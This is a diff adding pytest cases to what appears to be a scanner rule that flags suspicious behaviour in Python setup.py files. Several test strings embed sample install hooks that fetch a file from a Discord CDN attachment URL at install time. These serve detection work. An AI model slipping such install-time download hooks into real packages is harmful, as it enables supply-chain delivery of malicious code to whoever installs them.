@@ -77,3 +77,37 @@ def test_something_is_written_to_a_place_of_the_system(scan):
 def test_a_web_page_is_opened(scan):
     text = "import webbrowser\nfrom setuptools import setup\nwebbrowser.open('https://page.example.test')\nsetup()\n"
     assert scan(RULE, text, "setup.py") == [(3, "MEDIUM", "MEDIUM", "install")]
+
+
+def test_an_address_is_handed_to_another_file(scan):
+    text = r"""from setuptools import setup, Command
+class Run(Command):
+    def run(self):
+        from package import main
+        main("https://cdn.discordapp.com/attachments/0/0/a.py", "a.py")
+setup(name="a", cmdclass={"install": Run})
+"""
+    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]
+
+
+def test_near_miss_an_ordinary_address_and_the_metadata(scan):
+    text = r"""from setuptools import setup
+from package import check
+check("https://docs.example.test/")
+setup(name="a", url="https://pastebin.com/000", download_url="https://pastebin.com/000")
+"""
+    assert scan(RULE, text, "setup.py") == []
+
+
+def test_a_file_from_a_chats_store(scan):
+    text = r"""import requests
+from setuptools import setup
+from setuptools.command.install import install
+class Install(install):
+    def run(self):
+        with open("a.py", "wb") as f:
+            f.write(requests.get("https://cdn.discordapp.com/attachments/0/0/a.py").content)
+        install.run(self)
+setup(name="a", cmdclass={"install": Install})
+"""
+    assert (7, "HIGH", "HIGH", "install") in scan(RULE, text, "setup.py")
